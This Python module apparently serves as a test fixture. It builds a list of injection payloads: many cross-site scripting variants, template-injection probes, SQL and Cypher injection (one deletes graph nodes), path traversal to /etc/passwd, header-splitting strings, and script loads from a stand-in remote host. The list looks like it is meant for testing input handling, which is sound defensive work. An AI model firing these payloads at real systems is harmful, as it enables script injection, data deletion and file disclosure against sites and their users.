"""Script payloads: whatever a name, a quote or an address may hold to become more than text."""

from __future__ import annotations

_CALL = "window.pwned=1"
_HOST = "http://198.51.100.7"

_TAGS = [
    "script",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "style",
    "template",
    "details",
    "marquee",
    "base",
]
_EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin"]
_BREAKS = ["", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "\\"]

_OWN = [
    f"<script>{_CALL}</script>",
    f"<script src={_HOST}/x.js></script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</script><script>{_CALL}</script>",
    f"<!--<script>{_CALL}</script>-->",
    f"<img src={_HOST}/x.png>",
    f"<link rel=stylesheet href={_HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"#{{{_CALL}}}",
    f"<%={_CALL}%>",
    "{{ 7*7 }}",
    "{% print(7*7) %}",
    "{0.__class__.__mro__}",
    "%s%n%x",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"＜script＞{_CALL}＜/script＞",
    f"\u2028{_CALL}\u2029",
    f'"}};{_CALL};//',
    f"';{_CALL};//",
    f"`;{_CALL};//",
    f"*/{_CALL}/*",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x></svg>",
    f"<svg><use href={_HOST}/x.svg#x></svg>",
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<style>@import '{_HOST}/x.css';</style>",
    f"<b style=background:url({_HOST}/x.png)>x</b>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<table background={_HOST}/x.png>",
    f"<form action={_HOST}><button>x</button></form>",
    f"<base href={_HOST}/>",
    f"<object data={_HOST}/x.swf></object>",
    f"<template><script>{_CALL}</script></template>",
    "' OR 1=1 //",
    "}) DETACH DELETE n //",
    "`) SET n.name='pwned' //",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "\u202etxt.exe",
    "A\u0301\u0323" * 40,
    "x" * 3000,
    "\ufeff\u200b\u200d",
    "name\r\nSet-Cookie: x=1",
    "name%0d%0aSet-Cookie:%20x=1",
    '=HYPERLINK("http://198.51.100.7")',
    "\x1b]8;;http://198.51.100.7\x07x\x1b]8;;\x07",
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *_OWN,
            *(f"{mark}<img src=x onerror={_CALL}>" for mark in _BREAKS),
            *(f"{mark} {event}={_CALL} x={mark}" for mark in ('"', "'", "`") for event in _EVENTS),
            *(f"<{tag} onload={_CALL} onfocus={_CALL} ontoggle={_CALL} open autofocus>x</{tag}>" for tag in _TAGS),
        ]
    )
)
